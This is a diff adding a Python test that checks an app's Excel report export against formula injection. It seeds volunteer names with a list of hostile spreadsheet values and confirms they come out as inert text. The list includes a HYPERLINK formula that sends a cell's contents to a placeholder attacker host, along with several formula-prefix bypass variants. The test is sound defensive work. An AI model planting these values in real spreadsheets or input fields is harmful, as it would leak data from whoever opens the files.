@@ -74,3 +74,37 @@ def test_the_excel_export_reads_back_and_is_audited(session, centre):
     back = pd.read_excel(io.BytesIO(content), sheet_name="Sessions", engine="openpyxl")
     assert len(back) == len(report.sessions) and list(back.columns) == list(reports.SESSION_COLUMNS)
     assert session.exec(select(AuditEvent).where(AuditEvent.action == "report.exported")).one()
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+           "＝1+1"]
+
+
+def test_no_exported_cell_can_run_as_a_formula_and_numbers_stay_numbers(session, centre):
+    """A volunteer named like a formula is text in the coordinator's Excel file, as are all the other starts."""
+    from openpyxl import load_workbook
+
+    from listening.models import Volunteer
+
+    coordinator, _ = centre
+    volunteers = list(session.exec(select(Volunteer)))
+    for volunteer, name in zip(volunteers, HOSTILE, strict=False):
+        volunteer.full_name = name
+        session.add(volunteer)
+    session.commit()
+    report = reports.session_report(session, actor=coordinator, start=today() - timedelta(days=120), end=today())
+    assert set(report.sessions["volunteer"]) & set(HOSTILE)  # the names did reach the report
+    extra = pd.DataFrame({"note": HOSTILE, "change": [-1.5] * len(HOSTILE)})
+    content = reports.excel_workbook(session, actor=coordinator, sheets={"Sessions": report.sessions, "Extra": extra})
+    workbook = load_workbook(io.BytesIO(content))
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    texts = {cell.value for row in workbook["Sessions"].iter_rows(min_row=2) for cell in row}
+    assert "'" + HOSTILE[0] in texts and HOSTILE[0] not in texts
+    # (xlsx keeps a carriage return as a line feed)
+    assert [c.value for c in workbook["Extra"]["A"][1:]] == ["'" + text.replace("\r", "\n") for text in HOSTILE]
+    assert [c.value for c in workbook["Extra"]["B"][1:]] == [-1.5] * len(HOSTILE)  # a negative number stays a number
+    hours = [c.value for c in workbook["Sessions"]["G"][1:]]
+    assert all(isinstance(value, (int, float)) for value in hours)
